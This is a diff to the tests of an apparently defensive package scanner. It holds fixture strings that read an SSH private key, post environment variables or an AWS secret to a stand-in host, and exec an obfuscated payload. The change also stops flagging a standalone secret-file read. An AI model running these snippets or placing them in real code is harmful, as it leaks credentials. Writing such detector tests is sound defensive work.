@@ -39,10 +39,10 @@ ROGUE_INIT = {
     "network": ("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')\n",
                 {"code-import-network"}),
     "process": ("import subprocess as sp\nsp.Popen(['true'])\n", {"code-process"}),
-    "secrets": ("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
-                {"code-secret-read"}),
+    # a package reading a secret is judged with what it does with it: alone, not an alarm
+    "secrets": ("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", set()),
     "exfiltration": ("import os, requests\ndef go():\n    requests.post('http://x', json=dict(os.environ))\n"
-                     "go()\n", {"code-secret-read", "code-exfiltration"}),
+                     "go()\n", {"code-exfiltration"}),
     "obfuscated": ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK1Eoyy/NS1HISM3JyVcozy/KSQEAbJgIuw==')))\n",
                    {"code-exec-payload"}),
     "aliased-exec": ("from base64 import b64decode as d\nrun = eval\nexec(d('cGFzcw=='))\n",
@@ -55,7 +55,7 @@ ROGUE_INIT = {
     "date-trigger": ("import datetime, socket\nif datetime.date.today().year > 2030:\n    socket.create_connection(('h', 1))\n",
                      {"code-import-network"}),
     "dunder-import": ("__import__('os').system('true')\n", {"code-process"}),
-    "submodule-payload": ("from ._impl import go\ngo()\n", {"code-exfiltration", "code-secret-read"}),
+    "submodule-payload": ("from ._impl import go\ngo()\n", {"code-exfiltration"}),
 }
 _IMPL = "import os, requests\ndef go():\n    requests.post('http://x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
 
@@ -112,8 +112,7 @@ def test_sdist_install_time_code(tmp_path: Path) -> None:
                                           "tests/__init__.py": "import subprocess\nsubprocess.run(['x'])\n"})
     code, findings = _inspect(str(sdist))
     got = {(f["rule"], f["line"]) for f in findings}
-    assert got >= {("pkg-cmdclass", 10), ("code-exfiltration", 6), ("code-secret-read", 7),
-                   ("code-write-outside", 9)}
+    assert got >= {("pkg-cmdclass", 10), ("code-exfiltration", 6), ("code-write-outside", 9)}
     assert all(f["detail"] == "setup.py" for f in findings)  # tests/ is not import-time code
     assert code == 1 and not marker.exists()
 
